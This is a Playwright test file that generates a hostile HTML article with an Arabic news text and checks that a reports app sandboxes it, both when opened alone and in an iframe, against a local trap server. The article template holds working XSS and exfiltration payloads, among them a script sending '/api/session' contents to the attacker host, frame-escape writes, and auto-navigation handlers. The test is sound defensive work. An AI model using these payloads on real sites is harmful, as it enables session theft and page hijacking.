// An article as received that tries what a hostile page can: to run, to load, to reach the page around it, to send something. Nothing happens,
// in the frame of our page and opened by itself: no connection is even made.
import { mkdirSync, writeFileSync } from "node:fs";
import { createServer } from "node:net";
import { join } from "node:path";
import { test as base, choose, expect, makeStore, openRoom, outFolder, type Room, settled } from "./room";

/** A server that counts who comes. */
interface Trap {
	address: string;
	caught: string[];
}

function article(evil: string): string {
	const host = evil.replace("http://", "");
	const text = "قُتل خمسة مدنيين وأصيب تسعة بقصف مدفعي على سوق بلدة الوادي، بحسب الدفاع المدني.";
	return `<!doctype html><html lang="ar"><head><meta charset="utf-8"><title>قصف على بلدة الوادي</title>
<meta http-equiv="refresh" content="1;url=${evil}/refresh">
<base href="${evil}/base/">
<link rel="stylesheet" href="${evil}/style.css"><link rel="preload" as="image" href="${evil}/preload.png">
<link rel="prefetch" href="${evil}/prefetch"><link rel="preconnect" href="${evil}"><link rel="dns-prefetch" href="//${host}">
<link rel="modulepreload" href="${evil}/module.js"><link rel="icon" href="${evil}/icon.png"><link rel="manifest" href="${evil}/manifest">
<style>@import url("${evil}/import.css"); @font-face { font-family: x; src: url("${evil}/font.woff2"); }
body { font-family: x; background: url("${evil}/background.png"); } a:visited { background: url("${evil}/visited.png"); }</style>
<script>fetch("${evil}/fetch"); fetch("/api/session").then(r => r.text()).then(t => { location = "${evil}/?" + t; });
parent.document.title = "reached"; top.location = "${evil}/top"; document.cookie = "a=b"; alert(1);</script>
<script src="${evil}/script.js"></script></head>
<body onload="location='${evil}/onload'"><article><h1>قصف على بلدة الوادي</h1><p>${text}</p><p>${text} ${text}</p></article>
<img src="${evil}/image.png" srcset="${evil}/set.png 2x" onerror="location='${evil}/onerror'"><img src="/api/session">
<img src="x" onerror="parent.document.title='reached'"><picture><source srcset="${evil}/source.png"><img></picture>
<svg xmlns="http://www.w3.org/2000/svg"><script>alert(2)</script><image href="${evil}/svg.png"/><use href="${evil}/use.svg#a"/>
<a href="javascript:alert(3)"><text y="20">x</text></a></svg>
<iframe src="${evil}/frame"></iframe><iframe srcdoc="<script>parent.parent.document.title='reached'</script>"></iframe>
<object data="${evil}/object"></object><embed src="${evil}/embed"><video src="${evil}/video" poster="${evil}/poster" autoplay></video>
<audio src="${evil}/audio" autoplay></audio><track src="${evil}/track"><input type="image" src="${evil}/input.png">
<form id="f" action="${evil}/form" method="post"><input name="a" value="b"><button id="send" autofocus>إرسال</button></form>
<form action="/api/session" method="post"><button id="own">إرسال</button></form>
<a id="link" href="${evil}/link" target="_top" ping="${evil}/ping">رابط</a><a id="blank" href="${evil}/blank" target="_blank">رابط</a>
<marquee onstart="alert(4)">x</marquee><details open ontoggle="alert(5)"><summary>x</summary></details></body></html>`;
}

const test = base.extend<object, { trap: Trap; room: Room }>({
	trap: [
		// biome-ignore lint/correctness/noEmptyPattern: Playwright wants it so
		async ({}, use) => {
			const caught: string[] = [];
			const server = createServer(socket => {
				caught.push("a connection");
				socket.on("data", data => caught.push(data.toString().split("\r\n")[0] ?? ""));
				socket.on("error", () => undefined);
			});
			await new Promise<void>(done => server.listen(0, "127.0.0.1", done));
			const at = server.address();
			if (at === null || typeof at === "string") throw new Error("no port");
			await use({ address: `http://127.0.0.1:${at.port}`, caught });
			server.close();
		},
		{ scope: "worker" },
	],
	room: [
		async ({ trap }, use) => {
			const folder = join(outFolder("stores"), "raw");
			mkdirSync(folder, { recursive: true });
			writeFileSync(join(folder, "article.html"), article(trap.address));
			const room = await openRoom(makeStore("raw", folder));
			await use(room);
			await room.close();
		},
		{ scope: "worker" },
	],
	// The browser tells of all that it refuses: that is what is wanted here. Dialogs and answers of the trap are not.
	complaints: async ({ page }, use) => {
		const dialogs: string[] = [];
		page.on("dialog", dialog => {
			dialogs.push(dialog.message());
			void dialog.dismiss();
		});
		await use([]);
		expect(dialogs).toEqual([]);
	},
});

async function reportId(room: Room): Promise<string> {
	const found = (await (await fetch(`${room.address}/api/search?q=${encodeURIComponent("الوادي")}`)).json()) as {
		reports: { id: string }[];
	};
	return found.reports[0]?.id ?? "";
}

test("opened by itself", async ({ page, room, trap }) => {
	const address = `${room.address}/api/reports/${await reportId(room)}/raw`;
	const answer = await page.goto(address);
	const headers = answer?.headers() ?? {};
	expect(headers["content-security-policy"]).toContain("sandbox");
	expect(headers["content-security-policy"]).not.toMatch(/allow-(scripts|same-origin|forms|top|popups)/);
	expect(headers["x-content-type-options"]).toBe("nosniff");
	expect(headers["set-cookie"]).toBeUndefined();
	await expect(page.locator("article h1")).toContainText("الوادي");
	await page.waitForTimeout(2500); // longer than its refresh
	await expect(page.locator("button, input, form, script, link, iframe, svg")).toHaveCount(0);
	for (const id of ["#link", "#blank"]) await page.locator(id).click({ force: true });
	await page.waitForTimeout(500);
	expect(page.url()).toBe(address);
	expect(trap.caught).toEqual([]);
	expect(page.context().pages()).toHaveLength(1);
});

test("in the frame of our page", async ({ page, room, trap }) => {
	await choose(page, { lang: "en", theme: "light" });
	await page.goto(`/reports/${await reportId(room)}`);
	await settled(page);
	const title = await page.title();
	await page.locator("details.raw summary").click();
	const frame = page.frameLocator("details.raw iframe");
	await expect(frame.locator("article h1")).toContainText("الوادي");
	await page.waitForTimeout(2500);
	for (const id of ["#link", "#blank"]) await frame.locator(id).click({ force: true });
	await page.waitForTimeout(500);
	expect(await page.title()).toBe(title);
	expect(new URL(page.url()).pathname).toMatch(/^\/reports\//);
	expect(trap.caught).toEqual([]);
	expect(page.context().pages()).toHaveLength(1);
	expect(await page.context().cookies()).toEqual([]);
});
